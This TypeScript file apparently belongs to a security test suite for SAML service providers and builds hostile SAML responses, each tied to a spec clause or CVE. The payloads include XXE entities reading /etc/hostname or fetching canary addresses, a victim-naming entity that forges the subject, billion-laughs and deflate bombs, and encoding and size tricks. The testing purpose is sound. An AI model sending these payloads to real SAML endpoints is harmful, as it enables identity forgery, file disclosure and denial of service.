/** What a parser may be made to do: entities, addresses, encodings that lie, characters that may not be, size. */
import { deflateRawSync } from 'node:zlib'
import { signed, trusted } from '../saml/compose.ts'
import { rows } from '../saml/define.ts'
import { basic } from '../saml/draft.ts'
import { posting, type SamlMisbehaviour, type Scene } from '../saml/scene.ts'
import { after, before, replaced } from '../saml/surgery.ts'
import { element, ns, text } from '../saml/xml.ts'

const honest = (s: Scene): string => signed(s.genuine, 'assertion', trusted(s))
const nameOf = (s: Scene): string => `>${text(s.genuineSubject)}</saml:NameID>`
/** The genuine message with XML in its unsigned status. */
const withMessage = (s: Scene, xml: string): string =>
  before(honest(s), '</samlp:Status>', element('samlp:StatusMessage', {}, xml))
const doctype = (inside: string): string => `<!DOCTYPE r [${inside}]>`

const entities = rows(
  'saml-parsing',
  {
    owed: 'refusal',
    clause: 'XML 1.0, section 4.2.2: external entities; a SAML message needs no document type',
  },
  {
    id: 'saml-entity-in-subject',
    says: 'The signed NameID is written by an internal entity.',
    owed: 'refusal-or-genuine',
    seenIn: ['CVE-2025-23369'],
    bend: (s) =>
      doctype(`<!ENTITY e "${text(s.genuineSubject).replaceAll('"', '&quot;')}">`) +
      replaced(honest(s), nameOf(s), '>&e;</saml:NameID>'),
  },
  {
    id: 'saml-entity-names-victim',
    says: 'In place of the signed NameID stands an internal entity, which names the victim.',
    forges: true,
    bend: (s) =>
      doctype(`<!ENTITY e "${text(s.evilSubject).replaceAll('"', '&quot;')}">`) +
      replaced(honest(s), nameOf(s), '>&e;</saml:NameID>'),
    proof: { verifies: false },
  },
  {
    id: 'saml-doctype-bare',
    says: 'An empty document type stands before an untouched document.',
    owed: 'unsettled',
    bend: (s) => `<!DOCTYPE Response>${honest(s)}`,
    proof: { verifies: true },
  },
  ...(
    [
      ['file', () => 'file:///etc/hostname'],
      ['address', (s: Scene) => s.canary('/entity')],
    ] as const
  ).flatMap(([kind, uri]) => [
    {
      id: `saml-external-entity-${kind}-in-subject`,
      says: `The NameID is an external entity (${kind}) in a message that nobody could sign.`,
      seenIn: ['CVE-2016-10127', 'CVE-2016-10149'],
      bend: (s: Scene) =>
        doctype(`<!ENTITY e SYSTEM "${uri(s)}">`) + replaced(honest(s), nameOf(s), '>&e;</saml:NameID>'),
    },
    {
      id: `saml-external-entity-${kind}-beside-signed`,
      says: `An external entity (${kind}) stands in the unsigned status; the assertion is untouched.`,
      seenIn: ['CVE-2016-10127', 'CVE-2016-10149'],
      bend: (s: Scene) => doctype(`<!ENTITY e SYSTEM "${uri(s)}">`) + withMessage(s, '&e;'),
    },
  ]),
  {
    id: 'saml-parameter-entity',
    proof: { verifies: true },
    says: 'The document type reads a parameter entity from an address.',
    seenIn: ['CVE-2016-10127', 'CVE-2016-10149'],
    bend: (s) => doctype(`<!ENTITY % x SYSTEM "${s.canary('/parameter-entity')}">%x;`) + honest(s),
  },
  {
    id: 'saml-external-document-type',
    proof: { verifies: true },
    says: 'The document type is to be read from an address.',
    bend: (s) => `<!DOCTYPE r SYSTEM "${s.canary('/document-type')}">${honest(s)}`,
  },
  ...(
    [
      ['file', () => 'file:///etc/hostname'],
      ['address', (s: Scene) => s.canary('/include')],
    ] as const
  ).map(([kind, uri]) => ({
    id: `saml-xinclude-${kind}`,
    says: `The Extensions of the response include a document (${kind}).`,
    owed: 'refusal-or-genuine' as const,
    clause: 'XML Inclusions 1.0: processing is a choice of the application',
    bend: (s: Scene) =>
      before(
        honest(s),
        '<samlp:Status>',
        element(
          'samlp:Extensions',
          {},
          element('xi:include', {
            'xmlns:xi': 'http://www.w3.org/2001/XInclude',
            href: uri(s),
            parse: 'text',
          }),
        ),
      ),
    proof: { verifies: true },
  })),
  {
    id: 'saml-schema-hint',
    says: 'The response says at which address its schema is.',
    owed: 'refusal-or-genuine',
    clause: 'XML Schema 1.0, section 2.6.3: schemaLocation is a hint',
    bend: (s) =>
      after(
        honest(s),
        '<samlp:Response',
        ` xmlns:xsi="${ns.instance}" xsi:schemaLocation="${ns.protocol} ${s.canary('/schema')}"`,
      ),
    proof: { verifies: true },
  },
  {
    id: 'saml-stylesheet-hint',
    says: 'The document says at which address its stylesheet is.',
    owed: 'refusal-or-genuine',
    clause: 'Associating Style Sheets with XML documents 1.0: a hint for display',
    bend: (s) => `<?xml-stylesheet type="text/xsl" href="${s.canary('/stylesheet-hint')}"?>${honest(s)}`,
    proof: { verifies: true },
  },
)

const entityTree = Array.from(
  { length: 7 },
  (_, n) => `<!ENTITY e${n} "${n === 0 ? 'lol' : `&e${n - 1};`.repeat(10)}">`,
).join('')

const storms = rows(
  'saml-parsing',
  {
    owed: 'refusal',
    exhausts: true,
    clause: 'OWASP XML Security Cheat Sheet: limits on entities, depth and size',
  },
  {
    id: 'saml-entity-tree',
    says: 'Entities of entities expand to some ten megabytes.',
    bend: (s) => doctype(entityTree) + withMessage(s, '&e6;'),
  },
  {
    id: 'saml-entity-repeated',
    says: 'One entity of fifty kilobytes is used four hundred times.',
    bend: (s) => doctype(`<!ENTITY e "${'x'.repeat(50_000)}">`) + withMessage(s, '&e;'.repeat(400)),
  },
  {
    id: 'saml-elements-deep',
    proof: { verifies: true },
    says: 'Ten thousand elements stand in one another.',
    bend: (s) =>
      before(
        honest(s),
        '<samlp:Status>',
        element('samlp:Extensions', {}, '<a>'.repeat(10_000) + '</a>'.repeat(10_000)),
      ),
  },
  {
    id: 'saml-attributes-many',
    proof: { verifies: true },
    says: 'One element has five thousand attributes.',
    bend: (s) =>
      before(
        honest(s),
        '<samlp:Status>',
        `<samlp:Extensions><a ${Array.from({ length: 5000 }, (_, n) => `a${n}=""`).join(' ')}></a></samlp:Extensions>`,
      ),
  },
  {
    id: 'saml-deflated-bomb',
    says: 'The message is a DEFLATE stream of twenty megabytes.',
    seenIn: ['CVE-2023-26483', 'CVE-2023-28119', 'CVE-2025-25293'],
    bend: (s) => deflateRawSync(Buffer.from(`${honest(s)}${' '.repeat(20_000_000)}`)),
  },
)

const declaredAs = (s: Scene, declaration: string, xml = honest(s)): string => `<?xml ${declaration}?>${xml}`
const sixteen = (s: Scene, big: boolean): Buffer => {
  const little = Buffer.from(`\ufeff${declaredAs(s, 'version="1.0" encoding="UTF-16"')}`, 'utf16le')
  return big ? little.swap16() : little
}
/** Bytes in the unsigned status, whatever they are. */
const withBytes = (s: Scene, bytes: Buffer): Buffer => {
  const [head = '', tail = ''] = withMessage(s, '\u0001').split('\u0001')
  return Buffer.concat([Buffer.from(head), bytes, Buffer.from(tail)])
}

const encodings = rows(
  'saml-parsing',
  { owed: 'refusal-or-genuine', clause: 'XML 1.0, section 4.3.3: character encoding in entities' },
  ...(['little', 'big'] as const).map((end) => ({
    id: `saml-encoding-utf-16-${end}-endian`,
    says: `The message is in UTF-16, ${end}-endian, and says so.`,
    owed: 'unsettled' as const,
    bend: (s: Scene) => sixteen(s, end === 'big'),
    proof: { verifies: true },
  })),
  ...['UTF-16', 'UTF-7', 'IBM037'].map((name) => ({
    id: `saml-encoding-says-${name.toLowerCase()}`,
    says: `The message is in UTF-8 and says ${name}.`,
    bend: (s: Scene) => declaredAs(s, `version="1.0" encoding="${name}"`),
  })),
  {
    id: 'saml-encoding-says-latin-1',
    says: 'The message is in UTF-8, with letters beyond ASCII in the assertion, and says ISO-8859-1.',
    owed: 'refusal',
    bend: (s) => {
      const a = s.genuine.assertion
      const place = { name: 'place', more: { NameFormat: basic }, values: ['Orléans'] }
      const draft = { ...s.genuine, assertion: { ...a, statements: [...a.statements, [place]] } }
      return declaredAs(s, 'version="1.0" encoding="ISO-8859-1"', signed(draft, 'assertion', trusted(s)))
    },
    proof: { verifies: false },
  },
  ...(
    [
      ['nul', 'a NUL', Buffer.from([0])],
      ['nul-reference', 'a reference to NUL', Buffer.from('&#0;')],
      ['u-fffe', 'the character U+FFFE', Buffer.from('\ufffe')],
      ['surrogate', 'half of a surrogate pair', Buffer.from([0xed, 0xa0, 0x80])],
      ['overlong', 'an overlong form of a slash', Buffer.from([0xc0, 0xaf])],
    ] as const
  ).map(([id, says, bytes]) => ({
    id: `saml-character-${id}`,
    says: `The unsigned status holds ${says}.`,
    owed: 'refusal' as const,
    clause: 'XML 1.0, section 2.2: characters',
    bend: (s: Scene) => withBytes(s, bytes),
  })),
  {
    id: 'saml-xml-1-1',
    says: 'The message says that it is XML 1.1.',
    owed: 'unsettled',
    clause: 'XML 1.1: what other versions do with it is not said',
    bend: (s) => declaredAs(s, 'version="1.1" encoding="UTF-8"'),
  },
  {
    id: 'saml-xml-1-1-control-character',
    says: 'The message says that it is XML 1.1 and has a control character that only that version allows.',
    owed: 'unsettled',
    clause: 'XML 1.1, section 2.2: control characters by reference',
    bend: (s) => declaredAs(s, 'version="1.1"', withMessage(s, '&#1;')),
  },
)

/** The form with its Base64 text changed. A space after the root makes padding sure. */
const dressed = (dress: (base64: string) => string) => (s: Scene) => {
  let xml = honest(s)
  while (Buffer.byteLength(xml) % 3 !== 1) xml += ' '
  const form = posting(s, xml)
  return {
    ...form,
    fields: form.fields.map(
      ([name, value]) => [name, name === 'SAMLResponse' ? dress(value) : value] as const,
    ),
  }
}
/** A message of so many Base64 characters, by an attribute that nobody maps. */
const ofSize = (characters: number) => (s: Scene) => {
  const a = s.genuine.assertion
  const padded = (length: number): string => {
    const padding = { name: 'padding', more: { NameFormat: basic }, values: ['x'.repeat(length)] }
    return signed(
      { ...s.genuine, assertion: { ...a, statements: [...a.statements, [padding]] } },
      'both',
      trusted(s),
    )
  }
  const room = (characters * 3) / 4 - Buffer.byteLength(padded(0))
  return padded(Math.max(0, room))
}
export const sixtyThousand = ofSize(60_000)

const dress = rows(
  'saml-parsing',
  { owed: 'unsettled', clause: 'SAML 2.0 Bindings 3.5.4: the message is encoded in Base64 (RFC 2045)' },
  {
    id: 'saml-base64-url-safe',
    says: 'The form uses the URL-safe alphabet of Base64.',
    bend: dressed((value) => value.replaceAll('+', '-').replaceAll('/', '_')),
  },
  {
    id: 'saml-base64-without-padding',
    says: 'The Base64 text has lost its padding.',
    bend: dressed((value) => value.replaceAll('=', '')),
  },
  {
    id: 'saml-base64-with-junk',
    says: 'Characters that are not of Base64 follow the text.',
    bend: dressed((value) => `${value}!!`),
  },
  {
    id: 'saml-base64-twice',
    says: 'The message is encoded in Base64 two times.',
    bend: dressed((value) => Buffer.from(value).toString('base64')),
  },
  {
    id: 'saml-deflated',
    says: 'The message is compressed as by the redirect binding.',
    clause: 'SAML 2.0 Bindings 3.5.4: the POST binding has no compression',
    bend: (s) => deflateRawSync(Buffer.from(honest(s))),
  },
  ...[90_000, 99_996, 100_000, 100_004, 150_000].map((size) => ({
    id: `saml-size-${size}`,
    says: `The message has ${size} characters of Base64.`,
    clause: 'Amazon Cognito Developer Guide, saml2/idpresponse: an assertion of up to 100,000 characters',
    bend: ofSize(size),
    proof: { verifies: true },
  })),
  {
    id: 'saml-size-300000',
    says: 'The message has 300000 characters of Base64.',
    owed: 'refusal',
    clause: 'Amazon Cognito Developer Guide, saml2/idpresponse: an assertion of up to 100,000 characters',
    seenIn: ['CVE-2025-54572'],
    bend: ofSize(300_000),
    proof: { verifies: true },
  },
)

export const documentRows: readonly SamlMisbehaviour[] = [...entities, ...storms, ...encodings, ...dress]
